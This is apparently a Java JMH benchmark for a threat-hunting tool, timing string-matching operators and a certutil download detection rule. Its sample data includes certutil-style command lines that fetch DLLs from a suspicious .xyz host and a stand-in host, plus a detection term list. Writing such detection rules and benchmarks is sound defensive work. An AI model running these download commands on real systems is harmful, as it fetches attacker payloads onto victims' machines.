package dev.bazahunt.bench;

import dev.bazahunt.kql.KqlOperators;
import dev.bazahunt.rules.CertutilDownloadRule;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;

/** The operators of the certutil rule, on the command lines and file names they meet in practice. */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class KqlOperatorsBenchmark {
    private static final String[] DOWNLOAD_TERMS = {"-urlcache", "split", "http"};

    // Fields, not constants, so the JIT cannot fold the calls away.
    private String downloadCommandLine =
            "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
    private String httpsCommandLine = "upd.exe -urlcache -split -f https://cdn-upd.example/a.dll C:\\ProgramData\\upd\\a.dll";
    private String benignCommandLine =
            "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US";
    private String renamedFileName = "x8k2.exe";
    private String excelFileName = "EXCEL.EXE";

    @Benchmark
    public boolean hasAllOnDownload() {
        return KqlOperators.hasAll(downloadCommandLine, DOWNLOAD_TERMS);
    }

    @Benchmark
    public boolean hasAllOnHttpsDownload() {
        return KqlOperators.hasAll(httpsCommandLine, DOWNLOAD_TERMS);
    }

    @Benchmark
    public boolean hasAllOnBenignCommandLine() {
        return KqlOperators.hasAll(benignCommandLine, DOWNLOAD_TERMS);
    }

    @Benchmark
    public boolean equalsCiExcel() {
        return KqlOperators.equalsCi(excelFileName, "excel.exe");
    }

    @Benchmark
    public boolean certutilRuleOnDownload() {
        return CertutilDownloadRule.matches(renamedFileName, downloadCommandLine);
    }
}
